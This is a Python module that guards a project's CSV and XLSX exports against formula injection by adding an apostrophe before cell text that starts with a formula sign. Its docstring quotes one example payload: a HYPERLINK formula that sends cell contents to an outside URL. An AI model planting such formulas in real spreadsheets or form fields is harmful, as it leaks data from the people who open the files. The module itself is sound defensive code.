"""Cells that a spreadsheet program shows as written, never runs (CSV or formula injection).

A CSV or XLSX cell whose text starts with `=`, `+`, `-` or `@` (or a tab or a carriage
return, which some programs skip before reading one of those) is a formula to Excel,
LibreOffice and Google Sheets: a name typed as `=HYPERLINK("https://…?"&A1, "klik")` in an
intake form would run on the supervisor's machine when the export is opened. Every CSV and
XLSX the project writes goes through this module, which puts an apostrophe before such text,
as OWASP advises, and before text whose first sign comes after spaces or is full-width.
Numbers written as numbers stay numbers (-5 is not a formula); the text "-5" gets its
apostrophe.
"""

import csv
from collections.abc import Iterable
from typing import IO, Any

from django.utils.functional import Promise

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Spreadsheet programs that trim the spaces before a cell (LibreOffice's "trim spaces") then
# read the sign; some convert the full-width signs of East Asian keyboards (＝＋－＠) too.
_SKIPPED_BEFORE = " \t\r\n\u00a0\u3000"
_FULL_WIDTH_STARTS = ("\uff1d", "\uff0b", "\uff0d", "\uff20")


def starts_a_formula(text: str) -> bool:
    """Whether a spreadsheet program may read `text` as a formula."""
    if text.startswith(FORMULA_STARTS):
        return True
    return text.lstrip(_SKIPPED_BEFORE).startswith(FORMULA_STARTS + _FULL_WIDTH_STARTS)


def spreadsheet_safe(value: Any) -> Any:
    """The cell value as a spreadsheet should show it: text that would start a formula gets
    a leading apostrophe; None becomes empty; numbers, dates and booleans are left alone."""
    if value is None:
        return ""
    if isinstance(value, Promise):  # a lazy translation: the text it stands for
        value = str(value)
    if isinstance(value, str) and starts_a_formula(value):
        return "'" + value
    return value


def spreadsheet_row(values: Iterable[Any]) -> list[Any]:
    return [spreadsheet_safe(value) for value in values]


class SafeCsvWriter:
    """`csv.writer` whose every cell goes through `spreadsheet_safe`; `writerow` returns
    what the file's `write` returned, as `csv.writer` does (streamed exports use it)."""

    def __init__(self, out: IO[str] | Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(spreadsheet_row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


def csv_writer(out: IO[str] | Any, **options: Any) -> SafeCsvWriter:
    """The CSV writer every export, report and error file uses."""
    return SafeCsvWriter(out, **options)


def xlsx_append(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl sheet, every cell through `spreadsheet_safe` (openpyxl
    would otherwise store text starting with `=` as a formula)."""
    sheet.append(spreadsheet_row(values))
